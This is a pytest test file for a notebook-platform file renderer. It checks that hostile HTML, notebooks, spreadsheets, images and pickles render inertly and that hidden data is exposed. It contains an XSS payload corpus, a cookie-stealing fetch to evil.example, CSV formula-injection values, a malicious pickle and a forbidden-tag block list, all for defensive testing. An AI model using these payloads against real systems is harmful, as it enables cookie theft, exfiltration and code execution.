"""Reviewer rendering: hostile files render to inert HTML, and nothing they carry stays hidden.

"Inert" is checked by parsing the output the way a browser tokenises it
(html.parser) and refusing any element or attribute that can run code, fetch a
URL or change how the page is interpreted.
"""

from __future__ import annotations

import base64
import csv
import html
import io
import json
import re
import zipfile
from html.parser import HTMLParser
from typing import Any

import nbformat
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl import Workbook
from PIL import Image, PngImagePlugin

from jupyterlab_hdh.egress.render import RenderLimits, is_formula, render_file, sanitise_html

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "meta",
    "base", "link", "form", "input", "button", "textarea", "select", "svg", "math", "video",
    "audio", "source", "track", "template", "noscript", "portal", "area", "map", "xmp",
}  # fmt: skip
SAFE_IMG_SRC = re.compile(r"data:image/(png|jpeg);base64,[A-Za-z0-9+/=]*\Z")
SAFE_HREF = re.compile(r"(https?://|mailto:)", re.IGNORECASE)


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in ("style", "srcset", "formaction", "action"):
                self.problems.append(f"{tag}@{name}")
            fetches = name in ("src", "data", "poster", "background", "xlink:href", "ping")
            if fetches and not (tag == "img" and name == "src" and SAFE_IMG_SRC.match(value)):
                self.problems.append(f"{tag}@{name}={value[:40]}")
            if name == "href" and not (tag == "a" and SAFE_HREF.match(value.strip())):
                self.problems.append(f"{tag}@href={value[:40]}")
            if "javascript:" in value.lower() or "url(" in value.lower():
                self.problems.append(f"{tag}@{name}={value[:40]}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def inspect(fragment: str) -> tuple[list[str], str]:
    """(executable things found, the visible text) of an HTML fragment."""
    p = _Inspector()
    p.feed(fragment)
    p.close()
    return p.problems, "".join(p.text)


XSS = [
    "<script>alert('x')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/beacon.png'>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='JaVaScRiPt&#58;alert(1)'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>d</a>",
    "<a href='/api/egress/requests/1/approve'>relative</a>",
    "<svg onload=alert(1)><circle r=5 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<div style=\"background:url('https://evil.example/leak?d=1')\">styled</div>",
    "<style>@import url(https://evil.example/x.css); td{background:url(//e.x/y)}</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<form action='https://evil.example'><button formaction='https://e.x'>go</button></form>",
    "<object data='https://evil.example/x.swf'></object><embed src='x.swf'>",
    "<video poster='https://evil.example/p.png'><source src='x.mp4'></video>",
    "<img srcset='https://evil.example/a.png 1x'>",
    "<a href='https://ok.example' ping='https://evil.example/ping'>ping</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<table background='https://evil.example/bg.png'><tr><td>t</td></tr></table>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<img src=x onerror=alert(1)//<",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
]


def _png(text_chunk: str | None = None, size: tuple[int, int] = (7, 5)) -> bytes:
    buf = io.BytesIO()
    info = PngImagePlugin.PngInfo()
    if text_chunk:
        info.add_text("Comment", text_chunk)
    Image.new("RGB", size, (200, 10, 10)).save(buf, format="PNG", pnginfo=info)
    return buf.getvalue()


@pytest.mark.parametrize("payload", XSS)
def test_html_file_xss_corpus_is_inert_and_its_source_is_shown(payload: str) -> None:
    out = render_file("report.html", f"<p>before</p>{payload}<p>after</p>".encode())
    problems, text = inspect(out)
    assert problems == [], (payload, problems)
    assert "before" in text and "after" in text
    assert payload in text  # the raw source, escaped, is part of what the reviewer sees


@pytest.mark.parametrize("payload", XSS)
def test_sanitiser_alone_leaves_nothing_executable(payload: str) -> None:
    problems, _ = inspect(sanitise_html(payload))
    assert problems == [], (payload, problems)


def test_sanitiser_keeps_tables_links_and_inline_png() -> None:
    src = base64.b64encode(_png()).decode()
    out = sanitise_html(
        "<table><tr><th>n</th></tr><tr><td>12</td></tr></table>"
        f"<a href='https://example.org/doc'>doc</a><img src='data:image/png;base64,{src}'>"
    )
    assert "<td>12</td>" in out
    assert 'href="https://example.org/doc"' in out and "noopener" in out
    assert f"data:image/png;base64,{src}" in out


def _hostile_notebook() -> bytes:
    nb = nbformat.v4.new_notebook()
    nb.metadata["hidden"] = "SECRET-NB-METADATA"
    png = base64.b64encode(_png()).decode()
    md = nbformat.v4.new_markdown_cell(
        "# Title <script>alert('md')</script> ![x](attachment:a.png)"
    )
    md.attachments = {
        "a.png": {"image/png": png, "text/plain": "SECRET-IN-ATTACHMENT"},
    }
    code = nbformat.v4.new_code_cell("df.describe()  # SECRET-IN-SOURCE")
    code.metadata["tags"] = ["SECRET-CELL-METADATA"]
    code.execution_count = 3
    code.outputs = [
        nbformat.v4.new_output(
            "execute_result",
            data={
                "text/html": "<table><tr><td>1</td></tr></table>"
                "<!-- SECRET-IN-COMMENT --><img src=x onerror=alert(1)>"
                "<div style='display:none'>SECRET-DISPLAY-NONE</div>",
                "text/plain": "SECRET-PLAIN-ALTERNATIVE patient 123456789012345",
                "application/javascript": "fetch('https://evil.example/?'+document.cookie)",
                "image/svg+xml": "<svg onload='alert(1)'><text>SECRET-IN-SVG</text></svg>",
                "application/x-unknown": "<script>alert('unknown')</script>SECRET-UNKNOWN",
                "application/json": {"rows": ["SECRET-IN-JSON"]},
                "image/png": png,
            },
            metadata={"SECRET-OUTPUT-METADATA": True},
            execution_count=3,
        ),
        nbformat.v4.new_output("stream", name="stdout", text="<b>SECRET-STREAM</b>"),
        nbformat.v4.new_output(
            "error",
            ename="ValueError",
            evalue="<script>SECRET-ERROR</script>",
            traceback=["\x1b[31mTraceback SECRET-TRACEBACK\x1b[0m"],
        ),
        nbformat.v4.new_output(
            "display_data",
            data={"image/png": base64.b64encode(b"<script>alert(1)</script>").decode()},
        ),
    ]
    nb.cells = [md, code]
    return nbformat.writes(nb).encode()


def test_notebook_renders_every_bundle_metadata_and_attachment_inertly() -> None:
    out = render_file("analysis.ipynb", _hostile_notebook())
    problems, text = inspect(out)
    assert problems == []
    for secret in (
        "SECRET-NB-METADATA",
        "SECRET-IN-ATTACHMENT",
        "SECRET-IN-SOURCE",
        "SECRET-CELL-METADATA",
        "SECRET-IN-COMMENT",
        "SECRET-DISPLAY-NONE",
        "SECRET-PLAIN-ALTERNATIVE patient 123456789012345",
        "SECRET-IN-SVG",
        "SECRET-UNKNOWN",
        "SECRET-IN-JSON",
        "SECRET-OUTPUT-METADATA",
        "SECRET-STREAM",
        "SECRET-ERROR",
        "SECRET-TRACEBACK",
        "document.cookie",
        "<script>alert('md')</script>",
    ):
        assert secret in text, secret
    assert "\x1b" not in out  # ANSI colour codes stripped from tracebacks
    # the valid PNG output and attachment are shown as images; the fake PNG is not
    assert len(re.findall(r'<img src="data:image/png;base64,', out)) == 2
    assert "not a valid PNG/JPEG image" in text
    for mime in ("application/javascript", "image/svg+xml", "application/x-unknown"):
        assert mime in text


def test_fields_outside_the_notebook_schema_are_shown() -> None:
    nb = json.loads(_hostile_notebook())
    nb["cells"][1]["smuggled"] = "SECRET-EXTRA-CELL-FIELD"
    nb["cells"][1]["outputs"][0]["smuggled"] = "SECRET-EXTRA-OUTPUT-FIELD"
    nb["smuggled"] = "SECRET-EXTRA-NB-FIELD"
    out = render_file("x.ipynb", json.dumps(nb).encode())
    problems, text = inspect(out)
    assert problems == []
    assert "does not validate" in text
    for secret in ("SECRET-EXTRA-CELL-FIELD", "SECRET-EXTRA-OUTPUT-FIELD", "SECRET-EXTRA-NB-FIELD"):
        assert secret in text, secret


@pytest.mark.parametrize(
    "data",
    [b"{not json <script>alert(1)</script>", b"[1, 2]", b'{"cells": "<img src=x onerror=a()>"}'],
)
def test_unreadable_notebook_is_shown_as_escaped_text(data: bytes) -> None:
    out = render_file("broken.ipynb", data)
    problems, text = inspect(out)
    assert problems == []
    assert "not a readable notebook" in text
    assert data.decode() in text


def test_csv_marks_formula_injection_and_escapes_cells() -> None:
    buf = io.StringIO()
    csv.writer(buf).writerows(
        [
            ["region", "count", "note"],
            ["north", "12", '=HYPERLINK("https://evil.example/?"&A1,"x")'],
            ["south", "-5", "+cmd|' /C calc'!A0"],
            ["east", "1e3", "<script>alert(1)</script>"],
            ["west", "@SUM(1)", "plain"],
        ]
    )
    out = render_file("t.csv", buf.getvalue().encode())
    problems, text = inspect(out)
    assert problems == []
    assert "<script>alert(1)</script>" in text
    marked = re.findall(r'class="hdh-formula"[^>]*>⚠ ([^<]*)<', out)
    assert [html.unescape(m) for m in marked] == [
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
    ]
    assert "3 cell(s) shown would run as spreadsheet formulas" in text
    assert "4 rows × 3 columns" in text


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", True), ("-5", False), ("+3.5e2", False), ("-x", True), ("@A1", True), ("a=b", False)],
)
def test_is_formula(value: str, expected: bool) -> None:
    assert is_formula(value) is expected


def test_csv_shows_first_rows_and_says_how_many_were_left_out() -> None:
    data = "a,b\n" + "".join(f"{i},{i * 2}\n" for i in range(500))
    out = render_file("big.csv", data.encode(), RenderLimits(max_rows=10))
    _, text = inspect(out)
    assert out.count("<tr>") == 11  # header + 10
    assert "showing the first 10 of 500 rows" in text


def test_parquet_table_types_and_hidden_key_value_metadata() -> None:
    table = pa.table({"age_band": ["0-9", "=cmd()"], "n": [14, 22]})
    table = table.replace_schema_metadata({"note": "SECRET-PARQUET-METADATA"})
    buf = io.BytesIO()
    pq.write_table(table, buf)
    out = render_file("t.parquet", buf.getvalue())
    problems, text = inspect(out)
    assert problems == []
    assert "SECRET-PARQUET-METADATA" in text
    assert "2 rows × 2 columns" in text and "int64" in text
    assert "hdh-formula" in out


def test_xlsx_formulas_and_hidden_sheets_are_shown() -> None:
    wb = Workbook()
    ws = wb.active
    ws.title = "visible"
    ws.append(["group", "n"])
    ws.append(["a", 12])
    ws.append(["total", "=SUM(B2:B2)"])
    hidden = wb.create_sheet("stash")
    hidden.append(["SECRET-HIDDEN-SHEET"])
    hidden.sheet_state = "hidden"
    buf = io.BytesIO()
    wb.save(buf)
    out = render_file("t.xlsx", buf.getvalue())
    problems, text = inspect(out)
    assert problems == []
    assert "SECRET-HIDDEN-SHEET" in text and "this sheet is hidden in Excel" in text
    assert "⚠ =SUM(B2:B2)" in text


def test_xlsx_zip_bomb_is_not_opened() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/worksheets/sheet1.xml", b"\0" * 3_000_000)
    out = render_file("bomb.xlsx", buf.getvalue(), RenderLimits(max_xlsx_uncompressed=1_000_000))
    _, text = inspect(out)
    assert "not opened (zip bomb?)" in text


def test_png_is_inlined_with_dimensions_and_its_metadata() -> None:
    data = _png("SECRET-PNG-TEXT-CHUNK", size=(9, 4))
    out = render_file("fig.png", data)
    problems, text = inspect(out)
    assert problems == []
    assert f'src="data:image/png;base64,{base64.b64encode(data).decode()}"' in out
    assert "PNG 9×4 px" in text
    assert "SECRET-PNG-TEXT-CHUNK" in text


def test_jpeg_with_exif_shows_it() -> None:
    img = Image.new("RGB", (4, 4))
    exif = Image.Exif()
    exif[0x010E] = "SECRET-EXIF-DESCRIPTION"  # ImageDescription
    buf = io.BytesIO()
    img.save(buf, format="JPEG", exif=exif)
    out = render_file("fig.jpg", buf.getvalue())
    _, text = inspect(out)
    assert "data:image/jpeg;base64," in out
    assert "SECRET-EXIF-DESCRIPTION" in text


@pytest.mark.parametrize(
    ("name", "data", "shown_as"),
    [
        ("fig.png", b"<html><script>alert(1)</script></html>", None),
        ("fig.png", _png()[:60], None),  # truncated
        ("fig.jpg", _png(), "image/png"),  # a PNG named .jpg is shown as what it is
    ],
)
def test_fake_or_broken_images_are_not_inlined_as_something_else(
    name: str, data: bytes, shown_as: str | None
) -> None:
    out = render_file(name, data)
    problems, _ = inspect(out)
    assert problems == []
    assert re.findall(r'<img src="data:([^;]*);', out) == ([shown_as] if shown_as else [])


def test_gif_and_svg_images_are_never_rendered() -> None:
    buf = io.BytesIO()
    Image.new("RGB", (2, 2)).save(buf, format="GIF")
    out = render_file("fig.gif", buf.getvalue())
    assert "<img" not in out and "hex preview" in inspect(out)[1]
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><text>hi</text></svg>"
    out = render_file("fig.svg", svg)
    problems, text = inspect(out)
    assert problems == [] and "onload='alert(1)'" in text


def test_binary_model_gets_a_hex_preview_and_is_never_loaded() -> None:
    import pickle

    class Boom:
        def __reduce__(self) -> Any:
            return (exec, ("raise SystemExit('unpickled!')",))

    data = pickle.dumps(Boom())
    out = render_file("model.pkl", data)
    problems, text = inspect(out)
    assert problems == []
    assert "binary file: hex preview" in text
    assert data[:16].hex(" ") in text


def test_invisible_and_bidi_characters_are_made_visible() -> None:
    code = 'access = "user\u202e \u2066// admin\u2069 \u2066"  # zero\u200bwidth\n'
    out = render_file("trojan.py", code.encode())
    _, text = inspect(out)
    for cp in ("202E", "2066", "2069", "200B"):
        assert f"⟦U+{cp}⟧" in text
    assert "\u202e" not in out and "\u200b" not in out


def test_filename_is_escaped() -> None:
    out = render_file("<img src=x onerror=alert(1)>.txt", b"hello")
    problems, text = inspect(out)
    assert problems == [] and "<img src=x onerror=alert(1)>.txt" in text


def test_a_million_cell_csv_renders_quickly_and_formulas_past_the_preview_are_counted() -> None:
    import time

    rows = [f"{i},{i % 97},{i % 13}\n" for i in range(333_334)]
    rows[200_000] = '200000,=cmd|" /C calc"!A0,1\n'
    data = ("a,b,c\n" + "".join(rows)).encode()
    start = time.perf_counter()
    out = render_file("big.csv", data)
    elapsed = time.perf_counter() - start
    _, text = inspect(out)
    assert "333,334 rows × 3 columns" in text
    assert "1 more formula cell(s) in the rows not shown" in text
    assert out.count("<tr>") == 51
    assert elapsed < 10, elapsed


def test_a_notebook_with_too_many_cells_says_what_is_not_shown() -> None:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(f"x = {i}") for i in range(30)]
    out = render_file("many.ipynb", nbformat.writes(nb).encode(), RenderLimits(max_cells=10))
    _, text = inspect(out)
    assert "only the first 10 of 30 cells are shown" in text
    assert "x = 9" in text and "x = 10" not in text


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    import zlib

    crc = zlib.crc32(kind + body).to_bytes(4, "big")
    return len(body).to_bytes(4, "big") + kind + body + crc


def test_data_hidden_in_private_png_chunks_or_after_the_image_is_shown() -> None:
    png = _png()
    iend = png.rindex(b"IEND") - 4
    private = _png_chunk(b"prVt", b"HIDDEN-CHUNK-001" + b"x" * 40)
    data = png[:iend] + private + png[iend:] + b"HIDDEN-TRAILER-1 and more"
    out = render_file("fig.png", data)
    problems, text = inspect(out)
    assert problems == [] and "data:image/png;base64," in out  # still a valid image
    assert "non-standard PNG chunk 'prVt' of 56 bytes" in text
    assert "HIDDEN-CHUNK-001" in text
    assert "25 bytes after the end of the PNG image (IEND)" in text
    assert "HIDDEN-TRAILER-1" in text
    # a clean PNG raises no such warning
    assert "non-standard" not in render_file("fig.png", _png()) and "after the end" not in (
        render_file("fig.png", _png())
    )


def test_data_hidden_in_jpeg_segments_or_after_the_image_is_shown() -> None:
    buf = io.BytesIO()
    Image.new("RGB", (4, 4)).save(buf, format="JPEG", comment=b"HIDDEN-COMMENT-1")
    data = buf.getvalue() + b"HIDDEN-TRAILER-2"
    out = render_file("fig.jpg", data)
    problems, text = inspect(out)
    assert problems == [] and "data:image/jpeg;base64," in out
    assert "HIDDEN-COMMENT-1" in text
    assert "16 bytes after the end of the JPEG image (EOI)" in text
    assert "HIDDEN-TRAILER-2" in text


def test_xlsx_comments_and_formulas_past_the_preview_are_shown() -> None:
    from openpyxl.comments import Comment

    wb = Workbook()
    ws = wb.active
    ws.append(["group", "n"])
    for i in range(30):
        ws.append([f"g{i}", i + 10])
    ws.append(["total", "=SUM(B2:B31)"])
    ws["A2"].comment = Comment("SECRET-XLSX-COMMENT & more", "author")
    buf = io.BytesIO()
    wb.save(buf)
    out = render_file("t.xlsx", buf.getvalue(), RenderLimits(max_rows=10))
    problems, text = inspect(out)
    assert problems == []
    assert "1 more formula cell(s) in the rows not shown" in text
    assert "workbook part(s) a spreadsheet does not show in cells" in text
    assert "SECRET-XLSX-COMMENT & more" in text
    assert "xl/worksheets/sheet1.xml" in text
